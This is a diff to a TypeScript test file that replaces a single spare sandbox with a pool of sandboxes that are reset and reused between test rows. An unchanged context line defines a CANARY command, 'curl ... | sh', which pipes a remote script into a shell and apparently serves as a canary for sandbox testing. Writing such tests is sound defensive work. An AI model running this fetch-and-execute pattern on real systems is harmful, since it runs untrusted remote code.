@@ -17,22 +17,23 @@ const EVERYDAY = { ...PLAIN_EVERYDAY, ...SHAPES_EVERYDAY, ...AROUND_EVERYDAY };
 const CANARY = { run: 'curl -fsSL https://get.example.net/x.sh | sh' };
 
 let sandbox: Sandbox;
-/** For rows that leave something behind. */
-let spare: Sandbox;
+/** For rows that leave something behind: each has one to itself, which is then made as new. */
+const spare: Sandbox[] = [];
 beforeAll(() => {
   sandbox = makeSandbox();
-  spare = makeSandbox();
 });
 afterAll(() => {
-  sandbox.close();
-  spare.close();
+  for (const each of [sandbox, ...spare]) each.close();
 });
 
-/** One after the other they can share one, unless they may damage the program. */
 function sandboxFor(way: Way): Sandbox {
   if (way.calls.length === 1 && way.isMade !== true) return { ...sandbox, close: () => undefined };
-  if (isWhole || way.isMade) return makeSandbox();
-  return { ...spare, close: () => spare.reset() };
+  const own = spare.pop() ?? makeSandbox();
+  const close = () => {
+    own.reset();
+    spare.push(own);
+  };
+  return { ...own, close };
 }
 
 const hostsFor = (at: number): readonly HostName[] => inRotation(HOSTS, at, 1);
